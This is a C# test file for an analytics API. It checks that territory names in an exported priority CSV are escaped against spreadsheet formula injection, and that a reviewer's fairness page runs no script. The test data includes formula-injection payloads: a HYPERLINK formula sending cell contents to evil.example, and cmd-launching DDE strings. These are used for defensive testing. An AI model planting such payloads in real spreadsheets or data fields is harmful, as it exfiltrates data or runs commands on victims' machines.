using System.Net;
using System.Net.Http.Json;
using Analytics.Api.Platform;
using Analytics.Api.Tests.Reviews;
using Analytics.Jobs.Training;
using Analytics.Models.Access;
using Analytics.Testing;

namespace Analytics.Api.Tests.Platform;

/// <summary>
/// The downloaded priority CSV of an approved release, where territories carry names a spreadsheet would run as
/// formulas or that hold a line break (issue finding 6: the export only replaced <c>;</c>). Each comes out as text,
/// in its own cell of its own row.
/// </summary>
public class PriorityCsvTests(PriorityCsvTests.ApprovedApi api) : IClassFixture<PriorityCsvTests.ApprovedApi>
{
    /// <summary>Names as a territory file could bring them (a GeoJSON name property).</summary>
    public static readonly string[] HostileNames =
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Cliquez ici\")",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "Beauberon\n=HYPERLINK(\"http://evil.example\")",
        "Saint-Brieuc \"centre\"",
    ];

    /// <summary>The demo world with the asthma model trained, its top territories renamed, and the release approved.</summary>
    public sealed class ApprovedApi : ApiFactory
    {
        public long ReleaseId { get; private set; }

        public override async Task InitializeAsync()
        {
            await base.InitializeAsync();
            var (_, run) = await DemoRelease.PrepareAsync(this);
            ReleaseId = run.ReleaseId ?? throw new InvalidOperationException($"the run failed its checks: {string.Join("; ", run.FailedChecks)}");
            for (var i = 0; i < HostileNames.Length; i++)
                await Database.ScalarAsync<object>(
                    "UPDATE geo.territory t SET name = $1 FROM ml.prediction p WHERE p.territory_id = t.id AND p.run_id = $2 AND p.priority_rank = $3 RETURNING t.id",
                    HostileNames[i], run.RunId, i + 1);
            var reviewer = await ClientWithRolesAsync(Role.Reviewer);
            var approval = await reviewer.PostAsJsonAsync($"/api/reviews/{ReleaseId}/approve", new
            {
                justification = "Coefficients plausibles, carte cohérente avec la surveillance régionale.",
                acknowledgement = "Sous-déclaration possible dans les communes rurales défavorisées : liste relue commune par commune.",
            });
            Assert.Equal(HttpStatusCode.OK, approval.StatusCode);
        }
    }

    [Fact]
    public async Task formula_like_names_come_out_as_text_and_a_line_break_stays_inside_its_cell()
    {
        var planner = await api.ClientWithRolesAsync(Role.Planner);
        var response = await planner.GetAsync("/api/models/asthma_commune/priorities.csv");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var records = Rfc4180.Read(await response.Content.ReadAsStringAsync());
        var territories = await api.Database.ScalarAsync<long>($"SELECT count(*) FROM ml.prediction p JOIN review.release r ON r.run_id = p.run_id WHERE r.id = {api.ReleaseId} AND p.priority_rank IS NOT NULL");

        // One comment line, the header, one record per ranked territory: no name split a row.
        Assert.StartsWith("# modele=asthma_commune", records[0][0]);
        Assert.Equal(["rang", "code", "nom", "rsi_predit", "cas_attendus", "intervalle_bas", "intervalle_haut", "trop_incertaine"], records[1]);
        Assert.Equal(territories + 2, records.Count);
        Assert.All(records.Skip(1), r => Assert.Equal(8, r.Length));
        // The too uncertain are marked as the screen marks them: an interval wider than twice the predicted cases (judged
        // here from the file's rounded cases, so rows within 1% of the threshold are left out).
        static double Number(string cell) => double.Parse(cell, System.Globalization.CultureInfo.InvariantCulture);
        static double Ratio(string[] r) => (Number(r[6]) - Number(r[5])) / Math.Max(Number(r[4]), 1e-9);
        Assert.All(records.Skip(2).Where(r => Math.Abs(Ratio(r) - 2) > 0.02), r => Assert.Equal(Ratio(r) > 2 ? "oui" : "non", r[7]));
        Assert.Contains(records.Skip(2), r => r[7] == "oui");

        var byRank = records.Skip(2).ToDictionary(r => int.Parse(r[0], System.Globalization.CultureInfo.InvariantCulture));
        for (var i = 0; i < HostileNames.Length; i++)
        {
            var name = HostileNames[i];
            var expected = name[0] is '=' or '+' or '-' or '@' or '\t' ? "'" + name : name;
            Assert.Equal(expected, byRank[i + 1][2]);
        }
        // No cell of the file would be evaluated: whatever starts like a formula is a plain number.
        foreach (var cell in records.Skip(1).SelectMany(r => r))
            if (cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '\n')
                Assert.Matches(@"\A-[0-9]+(\.[0-9]+)?\z", cell);
    }

    [Fact]
    public async Task the_fairness_page_a_reviewer_opens_runs_no_script()
    {
        var reviewer = await api.ClientWithRolesAsync(Role.Reviewer);
        var response = await reviewer.GetAsync($"/api/reviews/{api.ReleaseId}/fairness.html");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(SecurityHeaders.DocumentPolicy, response.Headers.GetValues("Content-Security-Policy").Single());
        Assert.DoesNotContain("<script", await response.Content.ReadAsStringAsync());
    }
}
